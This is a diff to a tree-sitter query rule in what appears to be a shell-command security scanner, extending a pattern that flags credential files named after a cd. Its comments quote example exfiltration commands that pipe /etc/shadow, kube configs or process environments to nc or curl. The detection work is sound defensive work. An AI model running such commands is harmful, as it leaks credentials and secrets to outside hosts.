@@ -322,12 +322,14 @@
  (#set! severity "high")
  (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
 
-; cd /etc && cat shadow, (cd ~/.kube; curl -T config ...): a credential file
-; named relative to the directory the statement before went to (a directory
-; that is itself one, ~/.ssh, already is); only a plain cd and a plain
-; command after it, in a block, a list or a subshell (the pattern is
-; anchored on those, not on every node)
-([(list (command argument: (_) @dir) @cd . (command argument: (_) @target) @finding)
+; cd /etc && cat shadow, (cd ~/.kube; curl -T config ...), cd /etc; cat
+; shadow | nc h p, cd /proc/self; nc h p < environ: a credential file named
+; relative to the directory the statement before went to (a directory that
+; is itself one, ~/.ssh, already is); only a plain cd and, after it, a
+; command, a pipeline or a redirect, in a block, a list or a subshell (the
+; pattern is anchored on those, not on every node)
+([(list (command argument: (_) @dir) @cd . [(command argument: (_) @target) (pipeline (command argument: (_) @target)) (pipeline (redirected_statement redirect: (file_redirect destination: (_) @target))) (redirected_statement redirect: (file_redirect destination: (_) @target))] @finding)
+  (redirected_statement body: (list (command argument: (_) @dir) @cd . (command)) redirect: (file_redirect destination: (_) @target)) @finding
   (program (command argument: (_) @dir) @cd . (command argument: (_) @target) @finding)
   (compound_statement (command argument: (_) @dir) @cd . (command argument: (_) @target) @finding)
   (subshell (command argument: (_) @dir) @cd . (command argument: (_) @target) @finding)]
